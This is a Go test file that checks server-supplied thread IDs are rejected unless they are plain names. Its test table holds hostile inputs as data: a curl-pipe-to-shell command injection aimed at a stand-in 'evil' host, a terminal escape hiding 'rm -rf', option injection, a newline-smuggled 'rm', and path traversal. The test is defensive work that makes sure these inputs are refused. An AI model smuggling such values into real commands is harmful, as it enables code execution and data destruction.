package run

import (
	"encoding/json"
	"strings"
	"testing"
	"testing/synctest"
)

// A thread's id is printed, handed to scripts, and put into commands that people are
// told to type: one that is more than a name is none.
func TestSecurityThreadIDsAreNames(t *testing.T) {
	for name, id := range map[string]string{
		"escapes": "a\x1b]52;c;cm0gLXJm\x07b", "a command": "x`; curl evil | sh; `", "an option": "--remote=ws://evil", "a line more": "a\nrm", "none": "",
		"too long": strings.Repeat("a", 200), "a path": "../../x", "not ASCII": "a\u202eb", "an option's letter": "-o",
	} {
		synctest.Test(t, func(t *testing.T) {
			for _, detach := range []bool{true, false} {
				f := newFake(t)
				f.on("thread/start", func(*fakeConn, json.RawMessage) (any, error) {
					o := opened("idle")
					o["thread"].(map[string]any)["id"] = id
					return o, nil
				})
				req := request()
				req.Detach = detach
				res, out, err := drive(t, f, nil, req)
				said, _ := Encode(res)
				if err == nil || res.ThreadID != "" || strings.Contains(out.types(), ThreadStarted) || id != "" && strings.Contains(string(said), id) || f.count("turn/start") != 0 {
					t.Errorf("%s: %v, %s", name, err, said)
				}
			}
		})
	}
}
